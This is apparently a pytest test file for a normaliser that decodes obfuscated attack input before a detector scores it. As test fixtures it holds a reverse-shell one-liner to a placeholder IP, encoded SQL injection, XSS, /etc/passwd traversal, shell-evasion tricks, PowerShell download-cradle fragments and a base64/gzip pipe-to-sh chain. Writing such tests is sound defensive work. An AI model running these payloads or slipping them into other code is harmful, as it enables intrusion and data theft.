"""What an attacker hides must reach the judge in plain form, and nothing that arrives may stop it."""

import base64
import gzip
import random
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyzers.bert.canonical import FEATURES, MAX_LAYERS, MAX_TEXT, SOURCES, canonical


def feature(text, name, source="unknown"):
    return canonical(text, source).features[FEATURES.index(name)]


SHELL = "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"


@pytest.mark.parametrize(
    ("written", "source", "meant"),
    [
        ("%27%20OR%201%3D1--", "http", "' or 1=1--"),
        ("%2527%2520OR%25201%253D1--", "http", "' or 1=1--"),
        ("1'+OR+'1'='1", "http", "1' or '1'='1"),
        ("%u0027%u0020or", "http", "' or"),
        ("..%c0%af..%c0%afetc/passwd", "http", "../../etc/passwd"),
        ("&lt;script&gt;alert&#40;1&#x29;", "http", "<script>alert(1)"),
        (r"\x3c\x73\x76\x67", "http", "<svg"),
        ("UNION/**/SELECT", "http", "union select"),
        ("/*!50000UNION*/ SELECT", "http", "union select"),
        ("CHAR(97,98,99)", "http", "'abc'"),
        ("chr(97)||chr(98)||chr(99)", "http", "'abc'"),
        ("0x2f6574632f706173737764", "http", "'/etc/passwd'"),
        ("ｕｎｉｏｎ　ｓｅｌｅｃｔ", "http", "union select"),
        ("<ѕсrірt>", "http", "<script>"),
        ("cat${IFS}/etc/passwd", "shell", "cat /etc/passwd"),
        ("cat$IFS$9/etc/passwd", "shell", "cat /etc/passwd"),
        ("{cat,/etc/passwd}", "shell", "cat /etc/passwd"),
        ("c'a't /etc/passwd", "shell", "cat /etc/passwd"),
        ("w''hoami", "shell", "whoami"),
        (r"c\at /etc/passwd", "shell", "cat /etc/passwd"),
        ("who$@ami", "shell", "whoami"),
        ("p^o^w^e^r^s^h^e^l^l -nop", "shell", "powershell -nop"),
        ("I`E`X (New-Object Net.WebClient)", "powershell", "iex (new-object net.webclient)"),
        ("('Down'+'loadString')", "powershell", "('downloadstring')"),
        ("[char]105+[char]101+[char]120", "powershell", "'iex'"),
        ("a\u200bdm\u00adin\x00", "http", "admin"),
        ("a  \t b\n\n c", "shell", "a b\nc"),
        ("xn--80ak6aa92e.com.", "dns", "apple.com"),
    ],
)
def test_a_trick_is_undone(written, source, meant):
    assert canonical(written, source).text == meant


@pytest.mark.parametrize(
    ("written", "source"),
    [
        (r"c:\windows\system32\cmd.exe /c dir d:\x64\u0041", "shell"),
        ("date +%y-%m-%d", "shell"),
        ("printf '%02x\\n' 10", "shell"),
        ("git log --format='%h %an'", "shell"),
        ("ls /var/*/log*/x", "shell"),
        ("a=1&copy=2&reg=3", "http"),
        ("5d41402abc4b2a76b9719d911017c592", "http"),
        ("1442431887503330", "http"),
        ("/usr/local/lib/python3/sitepackages", "shell"),
        ("git diff head^ head", "shell"),
        ("grep '^a[^b]' file.{txt,bak}", "shell"),
        ("admin'or'a'='a", "http"),
        ("o'brien", "http"),
    ],
)
def test_what_is_no_trick_stays_as_it_is(written, source):
    assert canonical(written, source).text == written


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le"])
def test_base64_is_opened(encoding):
    blob = base64.b64encode(SHELL.encode(encoding)).decode()
    seen = canonical(f"powershell -enc {blob} | x", "powershell")
    assert seen.text == f"powershell -enc {SHELL} | x"
    assert seen.layers == 1


def test_layers_are_opened_one_after_another():
    blob = base64.b64encode(gzip.compress(SHELL.encode(), mtime=0)).decode()
    seen = canonical(quote(quote(f"echo {blob}|base64 -d|gunzip|sh", safe=""), safe=""), "http")
    assert SHELL in seen.text
    assert seen.layers == 3
    assert canonical(SHELL, "shell").layers == 0


def test_deeper_layers_than_the_limit_are_left():
    text = "'"
    for _ in range(MAX_LAYERS + 3):
        text = quote(text, safe="").replace("'", "%27")
    assert canonical(text, "http").layers == MAX_LAYERS


def test_what_was_undone_is_told():
    assert feature("%27%20OR", "percent") > 0
    assert feature("%27%20OR", "layers") == 0.25
    assert feature("UNION/**/SELECT", "comments", "http") > 0
    assert feature("c''at", "quotes") > 0
    assert feature("SeLeCt", "mixed_case") > 0
    assert feature("жжжж", "non_ascii") == 1.0
    assert sum(canonical("plain words", "http").features[: len(FEATURES) - 1]) == 0


def test_a_source_that_is_not_known_is_judged_as_unknown():
    assert canonical("A%20B", "telex") == canonical("A%20B", "unknown")


def test_a_bomb_stays_small():
    blob = base64.b64encode(gzip.compress(b"a" * 50_000_000)).decode()
    assert len(canonical(blob, "shell").text) <= MAX_TEXT
    assert len(canonical("\ufdfa" * 100_000, "shell").text) <= MAX_TEXT


def test_of_a_long_text_head_and_tail_are_read():
    text = canonical("head " + "x " * 500_000 + " tail", "shell").text
    assert text.startswith("head") and text.endswith("tail")
    assert len(text) <= MAX_TEXT


@given(st.text(), st.sampled_from(SOURCES))
def test_every_text_has_a_canonical_form(text, source):
    seen = canonical(text, source)
    assert len(seen.features) == len(FEATURES)
    assert all(0 <= value <= 1.5 for value in seen.features)
    seen.text.encode()
    assert canonical(text, source) == seen


def test_surrogates_and_bytes_that_are_no_text_are_taken():
    rng = random.Random(1)
    for _ in range(2000):
        raw = bytes(rng.randrange(256) for _ in range(rng.randrange(80)))
        for text in (raw.decode("utf-8", "surrogateescape"), raw.decode("latin-1"), "%" + raw.hex("%")):
            canonical(text, rng.choice(SOURCES)).text.encode()


@pytest.mark.timeout(20)
def test_nothing_backtracks():
    """Repeated openings that never close would take hours if a pattern were tried from each of them to the end."""
    units = (
        "%",
        "%25",
        "&#",
        "\\x",
        "\\u0041",
        "'",
        "a'b",
        "a\\",
        "{a,",
        "/*",
        "char(1,",
        "A",
        "0x",
        "$",
        "${IFS",
        "a^",
    )
    for unit in (*units, " ", "\\1", "chr(1)||", "\u0430", "''a"):
        canonical((unit * MAX_TEXT)[:MAX_TEXT], "unknown")
